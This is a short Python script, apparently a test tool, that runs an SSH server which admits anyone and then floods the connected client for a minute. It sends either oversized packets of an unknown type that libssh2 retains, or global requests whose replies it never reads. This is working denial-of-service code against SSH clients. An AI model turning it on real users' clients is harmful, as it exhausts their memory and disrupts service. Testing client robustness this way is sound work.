#!/usr/bin/env python3
"""An SSH server on standard input's socket that lets anybody in and then misbehaves until the connection ends.

    hostile_ssh.py HOST_KEY MODE

MODE:
    packets    sends packets of a type that no client knows, which libssh2 keeps
    requests   asks for answers to global requests, and reads none of them
Needs paramiko, whose packets can be made by hand. Ends by itself after a minute.
"""
import socket
import sys
import threading
import time

import paramiko


class Everybody(paramiko.ServerInterface):
    def check_auth_publickey(self, username, key):
        return paramiko.AUTH_SUCCESSFUL

    def get_allowed_auths(self, username):
        return "publickey"

    def check_channel_request(self, kind, chanid):
        return paramiko.OPEN_SUCCEEDED


def unknown_packet():
    message = paramiko.Message()
    message.add_byte(bytes([201]))
    message.add_bytes(b"A" * 30000)
    return message


def global_request():
    message = paramiko.Message()
    message.add_byte(bytes([80]))
    message.add_string("hostile@example")
    message.add_boolean(True)
    return message


def main():
    if len(sys.argv) != 3 or sys.argv[2] not in ("packets", "requests"):
        sys.exit(__doc__)
    make = unknown_packet if sys.argv[2] == "packets" else global_request
    transport = paramiko.Transport(socket.socket(fileno=0))
    transport.add_server_key(paramiko.Ed25519Key(filename=sys.argv[1]))
    transport.start_server(server=Everybody())
    if transport.accept(20) is None:
        sys.exit("nobody opened a channel")
    if make is global_request:
        transport.packetizer.read_message = lambda: threading.Event().wait()
    end = time.monotonic() + 60
    try:
        while time.monotonic() < end:
            transport.packetizer.send_message(make())
    except (OSError, EOFError):
        pass


if __name__ == "__main__":
    main()
